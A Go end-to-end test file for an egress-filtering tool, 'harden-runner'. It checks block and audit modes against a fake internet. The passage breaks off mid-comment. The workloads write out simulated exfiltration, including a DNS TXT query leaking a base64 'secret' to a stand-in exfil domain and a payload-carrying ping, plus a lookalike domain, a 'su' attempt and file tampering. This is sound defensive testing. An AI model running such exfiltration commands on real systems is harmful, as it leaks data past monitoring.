package main

// End-to-end tests of `harden-runner run` in the test topology of DESIGN.md:
// the real binary runs in a "runner" namespace, real clients run as an
// unprivileged user under it, and each check reads what the fake internet's
// dnsmasq and servers logged.

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/harden-runner/harden-runner/internal/fakerunner"
	"github.com/harden-runner/harden-runner/internal/testnet"
)

func TestMain(m *testing.M) {
	testnet.MaybeServe()
	if mode := os.Getenv("HR_GOCLIENT"); mode != "" {
		os.Exit(goClient(mode, os.Args[1:]))
	}
	code := m.Run()
	if binPath != "" {
		os.RemoveAll(filepath.Dir(binPath)) // the binary buildBinary made
	}
	os.Exit(code)
}

// goClient is a client written with Go's net package, run as its own
// process under the agent: "dial host:port" or "pipeline server name..."
// (several DNS queries in one TCP write).
func goClient(mode string, args []string) int {
	switch mode {
	case "tcpflood": // see e2e_scale_test.go
		return tcpFlood(args)
	case "markdial": // see e2e_mark_test.go
		return markDial(args)
	case "dial":
		// A TLS handshake, as a real client's first bytes: a connection
		// closed the moment it opens may be gone before the relay can ask
		// whose it was.
		c, err := tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", args[0], &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		c.Close()
		return 0
	case "hold":
		// hold ADDR DIR: connect, say "before", write DIR/ready, wait for
		// DIR/go, say "after"; succeed if both lines come back.
		c, err := net.DialTimeout("tcp", args[0], 5*time.Second)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		defer c.Close()
		r := bufio.NewReader(c)
		say := func(line string) error {
			if _, err := fmt.Fprintln(c, line); err != nil {
				return err
			}
			_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
			got, err := r.ReadString('\n')
			if err == nil && got != line+"\n" {
				err = fmt.Errorf("echo %q", got)
			}
			return err
		}
		if err := say("before"); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		_ = os.WriteFile(filepath.Join(args[1], "ready"), nil, 0o644)
		deadline := time.Now().Add(20 * time.Second)
		for {
			if _, err := os.Stat(filepath.Join(args[1], "go")); err == nil {
				break
			}
			if time.Now().After(deadline) {
				return 3
			}
			time.Sleep(10 * time.Millisecond)
		}
		if err := say("after"); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		return 0
	case "pipeline":
		c, err := net.DialTimeout("tcp", args[0], 5*time.Second)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		defer c.Close()
		var buf []byte
		for i, name := range args[1:] {
			m := new(dns.Msg)
			m.SetQuestion(dns.Fqdn(name), dns.TypeA)
			m.Id = uint16(i + 1)
			b, _ := m.Pack()
			buf = binary.BigEndian.AppendUint16(buf, uint16(len(b)))
			buf = append(buf, b...)
		}
		if _, err := c.Write(buf); err != nil { // one write: one segment
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		r := bufio.NewReader(c)
		for range args[1:] {
			var l uint16
			if err := binary.Read(r, binary.BigEndian, &l); err != nil {
				fmt.Fprintln(os.Stderr, "read:", err)
				return 1
			}
			b := make([]byte, l)
			if _, err := io.ReadFull(r, b); err != nil {
				return 1
			}
			m := new(dns.Msg)
			if err := m.Unpack(b); err != nil {
				return 1
			}
			fmt.Printf("%d %s\n", m.Id, dns.RcodeToString[m.Rcode])
		}
		return 0
	}
	return relayClient(mode, args)
}

var (
	buildOnce sync.Once
	binPath   string
	buildErr  error
)

// buildBinary builds harden-runner once per test run.
func buildBinary(t *testing.T) string {
	t.Helper()
	buildOnce.Do(func() {
		dir, err := os.MkdirTemp("", "hr-bin")
		if err != nil {
			buildErr = err
			return
		}
		binPath = filepath.Join(dir, "harden-runner")
		out, err := exec.Command("go", "build", "-o", binPath, ".").CombinedOutput()
		if err != nil {
			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return binPath
}

// world is the fake internet every end-to-end test uses.
type world struct {
	*testnet.Net
	bin  string
	self string // this test binary, for Go clients
	tmp  string // world-writable scratch for the unprivileged workload
	// cgroup2 mounts cgroup v2 in the agent's private mount namespace
	// first: `ip netns exec` mounts a new /sys without it, which makes the
	// agent fall back to /proc attribution. newWorld sets it where the
	// kernel has BTF, so the tests run the eBPF path the product runs, and
	// run then checks that the report says so.
	cgroup2 bool
}

func newWorld(t *testing.T) *world {
	testnet.Skip(t, "dnsmasq", "curl", "dig", "socat", "setpriv")
	n := testnet.New(t)
	h4, h6 := testnet.Host4, testnet.Host6
	n.StartDNS(map[string][]netip.Addr{
		"allowed.test":        {h4(10), h6(10)},
		"blocked.test":        {h4(11), h6(11)},
		"api.wild.test":       {h4(12)},
		"deep.a.wild.test":    {h4(13)},
		"wild.test":           {h4(14)},
		"evilwild.test":       {h4(15)},
		"pipe-blocked.test":   {h4(16)},
		"c2VjcmV0.exfil.test": {h4(17)},
		"audit-only.test":     {h4(18)},
		// Another tenant of allowed.test's addresses (a CDN's shared front).
		"evil.test": {h4(10), h6(10)},
	})
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	n.StartServers(self, "tls::443", "tls::8443", "http::80", "tls::853", "tcp::22", "echo::7777",
		"udp:0.0.0.0:9999", "udp:198.18.1.53:53", "tcp:198.18.1.53:53",
		"udp:[2001:db8:1::53]:53", "udp:0.0.0.0:5353", "icmp")
	tmp, err := os.MkdirTemp("", "hr-e2e")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(tmp) })
	if err := os.Chmod(tmp, 0o777); err != nil {
		t.Fatal(err)
	}
	// The workload (nobody) must be able to run this test binary.
	selfCopy := filepath.Join(tmp, "goclient")
	if out, err := exec.Command("cp", self, selfCopy).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, out)
	}
	_, btf := os.Stat("/sys/kernel/btf/vmlinux")
	return &world{Net: n, bin: buildBinary(t), self: selfCopy, tmp: tmp, cgroup2: btf == nil}
}

// workload is the shell script the unprivileged user runs: each line is a
// case "name: command"; the script records each command's exit status.
type workload []struct{ name, cmd string }

func (w *world) script(wl workload) (path, results string) {
	results = filepath.Join(w.tmp, "results")
	var b strings.Builder
	b.WriteString("#!/bin/sh\n")
	for _, c := range wl {
		fmt.Fprintf(&b, "( %s ) >>%s/out 2>&1 </dev/null; echo \"%s $?\" >>%s\n", c.cmd, w.tmp, c.name, results)
	}
	path = filepath.Join(w.tmp, "workload.sh")
	if err := os.WriteFile(path, []byte(b.String()), 0o755); err != nil {
		panic(err)
	}
	return path, results
}

// agent is w.In(w.Runner, args...) for a command that starts the agent:
// with w.cgroup2, cgroup v2 is mounted first, so the agent runs the eBPF
// attribution path.
func (w *world) agent(args ...string) *exec.Cmd {
	if w.cgroup2 {
		// Only where nothing is mounted there (the fresh /sys of ip netns
		// exec, in its private mount namespace), never over a real one.
		args = append([]string{"sh", "-c", `mountpoint -q /sys/fs/cgroup || mount -t cgroup2 cgroup2 /sys/fs/cgroup; exec "$@"`, "sh"}, args...)
	}
	return w.In(w.Runner, args...)
}

// checkEBPF fails t unless the report in dir says attribution ebpf (when
// w.cgroup2 and not switched off).
func (w *world) checkEBPF(t *testing.T, dir string) {
	t.Helper()
	if !w.cgroup2 || os.Getenv("HARDEN_RUNNER_NO_EBPF") != "" {
		return
	}
	if rep := readReport(t, dir); rep.Agent.Attribution != "ebpf" {
		t.Errorf("report.json agent.attribution %q (%s), want ebpf: the test ran the fallback path", rep.Agent.Attribution, rep.Agent.AttributionReason)
	}
}

// run runs the workload under `harden-runner run` as nobody and returns
// the per-case exit statuses and the report.
func (w *world) run(t *testing.T, flags []string, wl workload) (map[string]int, *reportFile) {
	t.Helper()
	script, results := w.script(wl)
	reportDir := filepath.Join(w.tmp, "report-"+t.Name()[strings.LastIndex(t.Name(), "/")+1:])
	args := append([]string{w.bin, "run", "--report-dir", reportDir, "--workspace", w.tmp, "--disable-file-monitoring"}, flags...)
	args = append(args, "--", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", "/bin/sh", script)
	cmd := w.agent(args...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("harden-runner run: %v\n%s", err, out)
	}
	t.Logf("harden-runner output:\n%s", out)
	if b, err := os.ReadFile(filepath.Join(w.tmp, "out")); err == nil {
		t.Logf("workload output:\n%s", b)
	}
	status := map[string]int{}
	b, err := os.ReadFile(results)
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var name string
		var code int
		if _, err := fmt.Sscanf(line, "%s %d", &name, &code); err == nil {
			status[name] = code
		}
	}
	w.checkEBPF(t, reportDir)
	return status, readReport(t, reportDir)
}

// reportFile is the part of report.json the tests read.
type reportFile struct {
	Schema string `json:"schema"`
	Egress []struct {
		Domain   string `json:"domain"`
		IP       string `json:"ip"`
		Port     int    `json:"port"`
		Protocol string `json:"protocol"`
		Verdict  string `json:"verdict"`
		Process  struct {
			PID     int    `json:"pid"`
			Exe     string `json:"exe"`
			Cmdline string `json:"cmdline"`
			Unknown string `json:"unknown"`
		} `json:"process"`
		Step   string `json:"step"`
		Reason string `json:"reason"`
	} `json:"egress"`
	DNS []struct {
		Name    string `json:"name"`
		Type    string `json:"type"`
		Verdict string `json:"verdict"`
		Process struct {
			Exe string `json:"exe"`
		} `json:"process"`
		Step string `json:"step"`
	} `json:"dns"`
	Agent struct {
		Attribution       string `json:"attribution"`
		AttributionReason string `json:"attribution_reason"`
		Usage             *struct {
			UserSeconds   float64 `json:"user_seconds"`
			SystemSeconds float64 `json:"system_seconds"`
			MaxRSSBytes   int64   `json:"max_rss_bytes"`
		} `json:"usage"`
	} `json:"agent"`
	Suggested struct {
		AllowedEndpoints []string `json:"allowed_endpoints"`
	} `json:"suggested_policy"`
	Privileged []struct {
		Program string `json:"program"`
		Process struct {
			UID     int    `json:"uid"`
			Cmdline string `json:"cmdline"`
		} `json:"process"`
	} `json:"privileged"`
}

func readReport(t *testing.T, dir string) *reportFile {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var r reportFile
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatalf("report.json: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "summary.md")); err != nil {
		t.Errorf("no summary.md: %v", err)
	}
	return &r
}

const allowFlags = "allowed.test:443 *.wild.test:443"

// cases shared by block and audit mode: each name is checked in both.
func commonWorkload(w *world, pipelinedRcode string) workload {
	return workload{
		{"allowed-v4", "curl -sk -4 --max-time 5 https://allowed.test/"},
		{"allowed-v6", "curl -sk -6 --max-time 5 https://allowed.test/"},
		{"wildcard-sub", "curl -sk --max-time 5 https://api.wild.test/"},
		{"wildcard-deep", "curl -sk --max-time 5 https://deep.a.wild.test/"},
		{"wildcard-apex", "curl -sk --max-time 5 https://wild.test/"},
		{"lookalike", "curl -sk --max-time 5 https://evilwild.test/"},
		{"blocked-name", "getent hosts blocked.test"},
		{"exfil-txt", "dig +short +time=2 +tries=1 TXT c2VjcmV0.exfil.test | grep -q '^\"'"}, // a TXT answer, not dig's ";; timed out"
		{"direct-ip-v4", "curl -sk --max-time 5 https://198.18.1.11/"},
		{"direct-ip-v6", "curl -sk --max-time 5 'https://[2001:db8:1::b]/'"},
		{"allowed-other-port", "curl -sk --max-time 5 https://allowed.test:8443/"},
		{"udp-blocked", "echo ping | socat -T1 - UDP:198.18.1.11:9999 | grep -q ping"},
		{"tcp-blocked", "socat -T1 - TCP:198.18.1.11:22,connect-timeout=5 | grep -q hello"},
		{"dns-other-server-udp", "dig +time=2 +tries=1 @198.18.1.53 allowed.test | grep -q 198.18.1.10"},
		{"dns-other-server-tcp", "dig +tcp +time=2 +tries=1 @198.18.1.53 allowed.test | grep -q 198.18.1.10"},
		{"dns-other-server-v6", "dig +time=2 +tries=1 @2001:db8:1::53 allowed.test | grep -q 198.18.1.10"},
		// The fake server echoes the query back, which dig rejects: judged by the server's log only.
		{"dns-nonstandard-port", "dig +time=2 +tries=1 -p 5353 @198.18.1.53 wild.test; true"},
		{"dns-pipelined", "HR_GOCLIENT=pipeline " + w.self + " 198.18.0.2:53 allowed.test pipe-blocked.test | grep -q '2 " + pipelinedRcode + "'"},
		{"dot", "echo | openssl s_client -connect 198.18.1.53:853 2>/dev/null | grep -q CONNECTED"},
		{"icmp", "ping -c1 -W2 -p 6869646465 198.18.1.11"},
		{"uppercase-dot", "getent ahostsv4 ALLOWED.TEST. | grep -q 198.18.1.10"},
		{"go-client", "HR_GOCLIENT=dial " + w.self + " audit-only.test:443"},
		// A privilege-raising program, tried without a password: reported.
		{"su", "su -c true root </dev/null"},
	}
}

func TestRunBlockMode(t *testing.T) {
	w := newWorld(t)
	// The pipelined client sends two queries in one TCP segment to the real
	// server's address; ours answers both, refusing the second name.
	wl := commonWorkload(w, "NXDOMAIN")
	// Wire labels no host name has, under the allowed *.wild.test: one label
	// "x.wild" under test (the escaped-dot escape to the parent zone), NUL,
	// a space. None may be forwarded, nor its answer (wild.test's address) allowed.
	wl = append(wl, workload{
		{"escaped-dot", `dig +short +time=2 +tries=1 'x\.wild.test' | grep -q 198.18.1.14`},
		{"escaped-dot-connect", `curl -sk --max-time 5 --resolve wild.test:443:198.18.1.14 https://wild.test/`},
		// An answer is an address line: dig prints its ";; timed out" to
		// stdout too, which a loaded machine sees now and then.
		{"nul-label", `dig +short +time=2 +tries=1 'a\000.wild.test' | grep -qE '^[0-9a-f.:]+$'`},
		{"space-label", `dig +short +time=2 +tries=1 'a\032b.wild.test' | grep -qE '^[0-9a-f.:]+$'`},
	}...)
	status, rep := w.run(t, []string{"--egress-policy", "block", "--allowed-endpoints", allowFlags, "--upstream", "198.18.0.2"}, wl)
	h4, h6 := testnet.Host4, testnet.Host6
	want := map[string]bool{ // case -> should succeed
		"allowed-v4": true, "allowed-v6": true, "wildcard-sub": true, "wildcard-deep": true,
		"dns-other-server-udp": true, "dns-other-server-tcp": true, "dns-other-server-v6": true,
		"dns-pipelined": true, "uppercase-dot": true, "dns-nonstandard-port": true,
	}
	for _, c := range wl {
		if got := status[c.name] == 0; got != want[c.name] {
			t.Errorf("%s: exit status %d, want success=%v", c.name, status[c.name], want[c.name])
		}
	}
	// What reached the fake internet.
	reached := []struct {
		name  string
		proto string
		addr  netip.Addr
		port  uint16
		want  bool
	}{
		{"allowed-v4", "tcp", h4(10), 443, true},
		{"allowed-v6", "tcp", h6(10), 443, true},
		{"wildcard-sub", "tcp", h4(12), 443, true},
		{"wildcard-deep", "tcp", h4(13), 443, true},
		{"wildcard-apex", "tcp", h4(14), 0, false},
		{"lookalike", "tcp", h4(15), 0, false},
		{"direct-ip-v4", "tcp", h4(11), 443, false},
		{"direct-ip-v6", "tcp", h6(11), 443, false},
		{"allowed-other-port", "tcp", h4(10), 8443, false},
		{"udp-blocked", "udp", h4(11), 9999, false},
		{"tcp-blocked", "tcp", h4(11), 22, false},
		{"dns-other-server-udp", "udp", h4(0x53), 53, false},
		{"dns-other-server-tcp", "tcp", h4(0x53), 53, false},
		{"dns-other-server-v6", "udp", h6(0x53), 53, false},
		{"dns-nonstandard-port", "udp", h4(0x53), 5353, false},
		{"dot", "tcp", h4(0x53), 853, false},
		{"go-client", "tcp", h4(18), 443, false},
	}
	for _, r := range reached {
		if got := len(w.HitsTo(r.proto, r.addr, r.port)) > 0; got != r.want {
			t.Errorf("%s: server at %s:%d/%s reached=%v, want %v", r.name, r.addr, r.port, r.proto, got, r.want)
		}
	}
	for _, h := range w.Hits() {
		if h.Proto == "icmp" {
			t.Errorf("icmp: echo request reached the internet: %+v", h)
		}
	}
	// Blocked names never reach the upstream DNS server.
	for _, name := range []string{"wild.test", "evilwild.test", "blocked.test", "c2VjcmV0.exfil.test", "pipe-blocked.test", "audit-only.test"} {
		if w.DNSAsked(name) {
			t.Errorf("blocked name %s reached the upstream DNS server", name)
		}
	}
	// Only allowed names reach it at all (dnsmasq logs a name with a byte it
	// cannot print as "<name unprintable>", and one with a space cut short).
	for _, q := range w.DNSQueries() {
		if !slices.Contains([]string{"ready.probe", "allowed.test", "api.wild.test", "deep.a.wild.test"}, q) {
			t.Errorf("upstream DNS server was asked %q", q)
		}
	}
	for _, name := range []string{"allowed.test", "api.wild.test", "deep.a.wild.test"} {
		if !w.DNSAsked(name) {
			t.Errorf("allowed name %s never reached the upstream DNS server", name)
		}
	}
	// The report names what was blocked, and by whom.
	if rep.Schema != "harden-runner/report/v1" {
		t.Errorf("schema %q", rep.Schema)
	}
	assertFlow(t, rep, "198.18.1.11", 443, "blocked", "curl")
	assertFlow(t, rep, "198.18.1.10", 443, "allowed", "curl")
	assertDNS(t, rep, "blocked.test", "blocked", "getent")
	var su bool
	for _, p := range rep.Privileged {
		su = su || p.Program == "/usr/bin/su" && p.Process.UID == 65534 && strings.Contains(p.Process.Cmdline, "-c true")
	}
	if !su {
		t.Errorf("report: su by uid 65534 not under privileged: %+v", rep.Privileged)
	}
	// The agent's own use, as it measured it at its stop: it ran and read
	// events for seconds, so neither can be 0.
	if u := rep.Agent.Usage; u == nil || u.UserSeconds+u.SystemSeconds <= 0 || u.MaxRSSBytes < 1<<20 || u.MaxRSSBytes > 1<<30 {
		t.Errorf("report.json agent.usage = %+v, want the agent's CPU time and peak RSS", u)
	}
}

func TestRunAuditMode(t *testing.T) {
	w := newWorld(t)
	wl := commonWorkload(w, "NOERROR")
	// Through the relay, which only records: the report names what the
	// connection asked for, not what DNS last said of the address.
	wl = append(wl, workload{{"shared-address", "curl -sk --max-time 5 --resolve evil.test:443:198.18.1.10 https://evil.test/"}}...)
	status, rep := w.run(t, []string{"--egress-policy", "audit", "--allowed-endpoints", allowFlags, "--upstream", "198.18.0.2"}, wl)
	// In audit mode everything goes through, DNS to other servers still
	// lands at our resolver (recorded) rather than the server asked.
	for _, c := range wl {
		if status[c.name] != 0 && c.name != "exfil-txt" && c.name != "su" {
			t.Errorf("%s: exit status %d, want 0 in audit mode", c.name, status[c.name])
		}
	}
	for _, r := range []struct {
		proto string
		addr  netip.Addr
		port  uint16
	}{{"tcp", testnet.Host4(11), 443}, {"tcp", testnet.Host4(14), 443}, {"udp", testnet.Host4(11), 9999}, {"tcp", testnet.Host4(11), 22}, {"tcp", testnet.Host4(53), 853}} {
		if len(w.HitsTo(r.proto, r.addr, r.port)) == 0 {
			t.Errorf("audit mode: %s:%d/%s not reached", r.addr, r.port, r.proto)
		}
	}
	icmp := 0
	for _, h := range w.Hits() {
		if h.Proto == "icmp" && strings.HasPrefix(h.Remote, "198.18.0.1") {
			icmp++
		}
	}
	if icmp == 0 || status["icmp"] != 0 {
		t.Errorf("audit mode: ping did not reach the internet (status %d, hits %d)", status["icmp"], icmp)
	}
	if len(w.HitsTo("udp", testnet.Host4(53), 53)) != 0 {
		t.Errorf("audit mode: DNS to 198.18.1.53 bypassed the resolver")
	}
	for _, name := range []string{"blocked.test", "wild.test", "c2VjcmV0.exfil.test"} {
		if !w.DNSAsked(name) {
			t.Errorf("audit mode: %s not forwarded", name)
		}
	}
	assertFlow(t, rep, "198.18.1.11", 443, "audit", "curl")
	assertFlow(t, rep, "198.18.1.11", 9999, "audit", "socat")
	assertFlow(t, rep, "198.18.1.11", 22, "audit", "socat")
	assertFlow(t, rep, "198.18.1.53", 853, "audit", "openssl")
	assertFlow(t, rep, "198.18.1.18", 443, "audit", "goclient")
	assertFlow(t, rep, "198.18.1.10", 443, "allowed", "curl")
	assertDNS(t, rep, "blocked.test", "audit", "getent")
	assertDNS(t, rep, "c2vjcmv0.exfil.test", "audit", "dig")
	var shared bool
	for _, e := range rep.Egress {
		shared = shared || e.Domain == "evil.test" && e.IP == "198.18.1.10" && e.Verdict == "audit" && strings.Contains(e.Reason, "evil.test")
	}
	if !shared {
		t.Errorf("report: no audit row naming evil.test on 198.18.1.10: %+v", rep.Egress)
	}
	// direct-ip-v4 is curl connecting to blocked.test's address, which only
	// getent resolved: the address is suggested, not getent's name.
	for _, want := range []string{"198.18.1.11:443", "wild.test:443", "evilwild.test:443", "allowed.test:8443"} {
		if !slices.Contains(rep.Suggested.AllowedEndpoints, want) {
			t.Errorf("suggested policy %v lacks %s", rep.Suggested.AllowedEndpoints, want)
		}
	}
	if slices.Contains(rep.Suggested.AllowedEndpoints, "blocked.test:443") {
		t.Errorf("suggested policy %v names curl's direct-IP connection after getent's lookup", rep.Suggested.AllowedEndpoints)
	}
}

func assertFlow(t *testing.T, rep *reportFile, ip string, port int, verdict, exe string) {
	t.Helper()
	// One address may have several rows (a name the relay refused beside
	// one it allowed): one of them must match.
	var seen []string
	for _, e := range rep.Egress {
		if e.IP == ip && e.Port == port {
			if e.Verdict == verdict && filepath.Base(e.Process.Exe) == exe {
				return
			}
			seen = append(seen, fmt.Sprintf("%s by %q (%q; unknown: %q)", e.Verdict, e.Process.Exe, e.Process.Cmdline, e.Process.Unknown))
		}
	}
	if seen == nil {
		t.Errorf("report: no egress entry for %s:%d", ip, port)
		return
	}
	t.Errorf("report: %s:%d is %v, want %s by %s", ip, port, seen, verdict, exe)
}

func assertDNS(t *testing.T, rep *reportFile, name, verdict, exe string) {
	t.Helper()
	for _, d := range rep.DNS {
		if d.Name == name {
			if d.Verdict != verdict {
				t.Errorf("report: dns %s verdict %s, want %s", name, d.Verdict, verdict)
			}
			if filepath.Base(d.Process.Exe) != exe {
				t.Errorf("report: dns %s process %q, want %s", name, d.Process.Exe, exe)
			}
			return
		}
	}
	t.Errorf("report: no dns entry for %s", name)
}

// tableExists reports whether our nftables table is in the runner namespace.
func tableExists(w *world) bool {
	out, _ := w.In(w.Runner, "nft", "list", "tables").CombinedOutput()
	return strings.Contains(string(out), "harden_runner")
}

func waitTable(t *testing.T, w *world, want bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for tableExists(w) != want {
		if time.Now().After(deadline) {
			t.Fatalf("table present=%v never became %v", !want, want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestRunFailsClosedOnSIGKILL(t *testing.T) {
	w := newWorld(t)
	cmd := w.In(w.Runner, w.bin, "run", "--egress-policy", "block", "--allowed-endpoints", allowFlags,
		"--upstream", "198.18.0.2", "--report-dir", filepath.Join(w.tmp, "r"), "--disable-file-monitoring", "--", "sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waitTable(t, w, true)
	// ip netns exec execs the binary in place, so this is harden-runner's pid.
	if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	if !tableExists(w) {
		t.Fatal("table gone after SIGKILL: failed open")
	}
	if err := w.In(w.Runner, "curl", "-sk", "--max-time", "3", "https://198.18.1.11/").Run(); err == nil {
		t.Error("blocked address reachable after the agent was killed")
	}
	if err := w.In(w.Runner, "getent", "hosts", "blocked.test").Run(); err == nil {
		t.Error("blocked name resolves after the agent was killed")
	}
	if len(w.HitsTo("tcp", testnet.Host4(11), 443)) != 0 || w.DNSAsked("blocked.test") {
		t.Error("traffic reached the internet after the agent was killed")
	}
}

func TestRunRemovesTableOnSignal(t *testing.T) {
	w := newWorld(t)
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT} {
		t.Run(sig.String(), func(t *testing.T) {
			dir := filepath.Join(w.tmp, "sig-"+sig.String())
			cmd := w.In(w.Runner, w.bin, "run", "--egress-policy", "block", "--upstream", "198.18.0.2",
				"--report-dir", dir, "--disable-file-monitoring", "--", "sleep", "60")
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			waitTable(t, w, true)
			start := time.Now()
			if err := cmd.Process.Signal(sig); err != nil {
				t.Fatal(err)
			}
			err := cmd.Wait()
			if tableExists(w) {
				t.Fatal("table still installed after run exited")
			}
			if time.Since(start) > 5*time.Second {
				t.Errorf("run took %v to stop", time.Since(start))
			}
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() == 0 {
				t.Errorf("run exit: %v, want the killed command's non-zero status", err)
			}
			if _, err := os.Stat(filepath.Join(dir, "report.json")); err != nil {
				t.Errorf("no report after signal: %v", err)
			}
		})
	}
}

func TestRunRejectsBadInput(t *testing.T) {
	w := newWorld(t)
	for _, c := range []struct {
		flags []string
		want  string
	}{
		{[]string{"--egress-policy", "blok"}, `"blok"`},
		{[]string{"--allowed-endpoints", "github.com:99999"}, "github.com:99999"},
		{[]string{"--allowed-endpoints", "git*hub.com:443"}, "git*hub.com:443"},
		{[]string{"--upstream", "not-an-ip"}, "not-an-ip"},
	} {
		args := append([]string{w.bin, "run", "--report-dir", filepath.Join(w.tmp, "bad")}, c.flags...)
		out, err := w.In(w.Runner, append(args, "--", "true")...).CombinedOutput()
		if err == nil {
			t.Errorf("%v: accepted", c.flags)
		}
		if !strings.Contains(string(out), c.want) {
			t.Errorf("%v: error %q does not name %s", c.flags, out, c.want)
		}
		if tableExists(w) {
			t.Fatalf("%v: table left behind after bad input", c.flags)
		}
	}
}

func TestRunExitStatus(t *testing.T) {
	w := newWorld(t)
	err := w.In(w.Runner, w.bin, "run", "--upstream", "198.18.0.2", "--report-dir", filepath.Join(w.tmp, "x"),
		"--disable-file-monitoring", "--", "sh", "-c", "exit 7").Run()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 7 {
		t.Fatalf("exit: %v, want status 7", err)
	}
	if tableExists(w) {
		t.Fatal("table left behind")
	}
}

// TestRunReportsTamperedFiles: file monitoring through `run`, judged by
// report.json: pre-existing files changed by the workload are listed with
// the program that changed them; files it creates are not.
func TestRunReportsTamperedFiles(t *testing.T) {
	w := newWorld(t)
	ws := filepath.Join(w.tmp, "ws")
	for name, body := range map[string]string{"src/main.go": "package main\n", "src/util.go": "package util\n", "src/lib.go": "package lib\n", "src/link.go": "package link\n", "README": "hi\n", "gone.txt": "x\n"} {
		p := filepath.Join(ws, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("chmod", "-R", "a+rwX", ws).CombinedOutput(); err != nil {
		t.Fatalf("chmod: %v %s", err, out)
	}
	script := filepath.Join(w.tmp, "tamper.sh")
	body := fmt.Sprintf("#!/bin/sh\ncd %s\nsed -i s/main/evil/ src/main.go\necho more >> src/util.go\nrm gone.txt\nperl -e 'truncate(\"src/lib.go\", 0) or die'\nln src/link.go %s/hl && perl -e 'truncate(\"%s/hl\", 1) or die' && rm %s/hl\nmkdir -p out && for i in $(seq 200); do echo $i > out/f$i; done\n", ws, w.tmp, w.tmp, w.tmp)
	if err := os.WriteFile(script, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(w.tmp, "files-report")
	out, err := w.agent(w.bin, "run", "--upstream", "198.18.0.2", "--report-dir", dir, "--workspace", ws,
		"--", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", "/bin/sh", script).CombinedOutput()
	if err != nil {
		t.Fatalf("run: %v\n%s", err, out)
	}
	w.checkEBPF(t, dir)
	b, err := os.ReadFile(filepath.Join(dir, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var rep struct {
		Files []struct {
			Path    string `json:"path"`
			Event   string `json:"event"`
			Process struct {
				PID     int    `json:"pid"`
				Exe     string `json:"exe"`
				Unknown string `json:"unknown"`
			} `json:"process"`
		} `json:"files"`
	}
	if err := json.Unmarshal(b, &rep); err != nil {
		t.Fatal(err)
	}
	// src/lib.go: truncate(2) by path opens nothing; fanotify's
	// identifier-mode group names perl. src/link.go: the same through a
	// hard link outside the workspace, which no watched directory sees.
	want := map[string]string{"src/main.go": "sed", "src/util.go": "sh", "gone.txt": "rm", "src/lib.go": "perl", "src/link.go": "perl"}
	for _, f := range rep.Files {
		if strings.HasPrefix(f.Path, "out/") {
			t.Errorf("a file the build created is reported: %+v", f)
		}
		if exe, ok := want[f.Path]; ok {
			// rm opens nothing filemon can hold, so a fast rm may be gone
			// before /proc is read: then the pid must still be there, and why.
			gone := exe == "rm" && f.Process.PID != 0 && f.Process.Unknown != ""
			if filepath.Base(f.Process.Exe) != exe && !(exe == "sh" && filepath.Base(f.Process.Exe) == "dash") && !gone {
				t.Errorf("%s: %s by %q, want %s", f.Path, f.Event, f.Process.Exe, exe)
			}
			if (f.Path == "src/lib.go" || f.Path == "src/link.go") && f.Event != "truncate" {
				t.Errorf("%s: %s, want truncate", f.Path, f.Event)
			}
			delete(want, f.Path)
		}
	}
	for p := range want {
		t.Errorf("tampered file %s not in the report (files: %+v)", p, rep.Files)
	}
	for _, f := range rep.Files {
		if f.Path == "README" {
			t.Errorf("untouched file reported: %+v", f)
		}
	}

	// `harden-runner report` builds the same report from the journal again.
	again := filepath.Join(w.tmp, "files-report-again")
	if out, err := exec.Command(w.bin, "report", "--journal", filepath.Join(dir, "journal.jsonl"), "--report-dir", again,
		"--workspace", ws).CombinedOutput(); err != nil {
		t.Fatalf("report: %v\n%s", err, out)
	}
	for _, name := range []string{"report.json", "summary.md"} {
		a, _ := os.ReadFile(filepath.Join(dir, name))
		b, err := os.ReadFile(filepath.Join(again, name))
		if err != nil || len(a) == 0 || string(a) != string(b) {
			t.Errorf("%s built again differs (%v)", name, err)
		}
	}
}

// TestRunNamesWorkflowSteps runs a stand-in for the runner (a copy of
